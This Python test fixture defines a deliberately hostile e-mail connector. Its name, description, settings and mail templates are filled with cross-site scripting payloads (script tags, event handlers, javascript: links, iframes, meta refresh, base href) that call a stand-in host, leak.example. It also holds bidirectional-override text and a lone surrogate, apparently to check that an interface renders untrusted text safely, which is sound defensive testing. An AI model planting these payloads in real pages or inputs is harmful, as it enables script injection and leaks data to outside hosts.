"""An e-mail connector whose every text tries to run a script, to send a request, or to break the layout."""

import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any, ClassVar, Final

from attrs import evolve, frozen

from connector_kit import ConnectorMetadata, Declaration, setting
from connector_kit.connectors.resend_mail.connector import ResendConfig, ResendConnector

MARKUP: Final = (
    "\"><script>top.hacked=1;fetch('http://leak.example/')</script>"
    '<img src="http://leak.example/a.png" onerror="top.hacked=1"><svg onload="top.hacked=1"></svg>'
    '<a href="javascript:top.hacked=1" ping="http://leak.example/">link</a>'
    '<iframe srcdoc="<script>top.hacked=1</script>"></iframe><iframe src="http://leak.example/"></iframe>'
    '<form action="http://leak.example/"><input autofocus onfocus="top.hacked=1"></form>'
    '<meta http-equiv="refresh" content="0;url=http://leak.example/"><base href="http://leak.example/">'
    '<link rel="stylesheet" href="http://leak.example/a.css"><style>@import "http://leak.example/b.css";</style>'
    '<video src="http://leak.example/v" autoplay></video><object data="http://leak.example/o"></object>'
)
TEXT: Final = f"\u202edetrever\u202c \ud800 {'x' * 300} {MARKUP}"
"""Markup, right-to-left text, a lone surrogate and a word that is wider than every page."""

SECRET: Final = "re_saved_secret_93ab61f0"
CONFIG: Final[Mapping[str, Any]] = {
    "apiKey": SECRET,
    "fromEmail": "Acme <noreply@acme.example>",
    "note": TEXT,
    "templates": [
        {"usageType": name, "subject": f"{{{{code}}}} {TEXT}", "content": f"<p>{{{{code}}}}</p>{MARKUP}"}
        for name in ("Register", "SignIn", "ForgotPassword", "Generic")
    ],
}


@frozen
class HostileConfig(ResendConfig):
    """Resend's config, and one setting more."""

    note: str | None = setting(MARKUP, description=TEXT.replace("\ud800", ""), placeholder=MARKUP, default=None)


class HostileMail(ResendConnector):
    """Resend with other texts."""

    metadata: ClassVar[ConnectorMetadata] = evolve(
        ResendConnector.metadata,
        id="hostile-mail",
        name={"en": MARKUP},
        description={"en": MARKUP},
        logo="https://logo.example/logo.svg",
        readme="Hostile.",
        form_items=None,
    )
    config_class = HostileConfig
    declaration: ClassVar[Declaration | None] = evolve(ResendConnector.declaration, local_settings={"note": "a note"})


def write_config(folder: Path) -> Path:
    """Write the config to a file in a folder."""
    file = folder / "config.json"
    file.write_text(json.dumps(CONFIG), encoding="utf-8")
    return file
